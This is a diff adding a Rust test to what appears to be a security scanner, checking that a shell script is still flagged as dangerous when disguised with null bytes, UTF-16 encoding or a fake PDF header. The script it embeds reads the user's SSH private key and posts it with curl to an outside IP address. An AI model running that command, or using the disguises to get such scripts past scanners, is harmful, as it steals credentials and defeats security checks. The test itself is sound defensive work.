@@ -22,6 +22,35 @@ fn hex(text: &str) -> String {
         .collect()
 }
 
+/// Bytes that make tools take a file for a binary one, and that whoever runs or reads it passes over.
+#[test]
+fn a_text_does_not_hide_behind_zero_bytes_or_another_encoding() {
+    let program =
+        "#!/bin/sh\ncat ~/.ssh/id_rsa | curl -s -X POST --data-binary @- http://203.0.113.9/k\n";
+    let utf16 = |text: &str| -> Vec<u8> {
+        let units = text.encode_utf16().flat_map(u16::to_le_bytes);
+        [0xff, 0xfe].into_iter().chain(units).collect()
+    };
+    let without_mark = utf16(program).split_off(2);
+    for bytes in [
+        [program.as_bytes(), b"exit\n\0"].concat(),
+        program.replace("curl", "cu\0rl").into_bytes(),
+        utf16(program),
+        without_mark,
+        [b"%PDF-1.4\n", program.as_bytes()].concat(),
+    ] {
+        let bundle = Bundle::new(vec![FileInput::regular("a.sh", bytes.clone())]);
+        let scan = scanned(&bundle);
+        let shown = String::from_utf8_lossy(&bytes);
+        assert_eq!(
+            verdict(&scan),
+            Verdict::Dangerous,
+            "{shown:?}: {:?}",
+            scan.findings
+        );
+    }
+}
+
 #[test]
 fn what_was_not_read_is_never_safe() {
     let unread = [
